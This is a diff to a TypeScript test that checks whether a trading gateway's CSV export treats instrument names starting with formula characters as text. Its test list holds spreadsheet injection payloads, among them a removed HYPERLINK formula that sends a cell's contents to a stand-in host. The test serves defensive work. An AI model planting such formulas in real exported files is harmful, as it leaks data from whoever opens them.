@@ -45,7 +45,7 @@ function parseCsv (text: string): string[][] {
 
 t.test('orders with formula instruments from a real gateway export as text cells', async (t) => {
   const gateway = await startTestGateway({ overrides: { accounts: [tradingAccount('CSV1')] } })
-  const hostile = ['=HYPERLINK("http://x.example/?"&A1,"x")', '+1', '@SUM(A1:A9)', '-2+3', '\t=1', '\r=1']
+  const hostile = ['=HYPERLINK("http://x.io","x")', '+1', '@SUM(A1:A9)', '-2+3', '\t=1', '\r=1']
   try {
     const trader = await logOn(gateway, 'platform', 'CSV1')
     for (const instrument of hostile) {
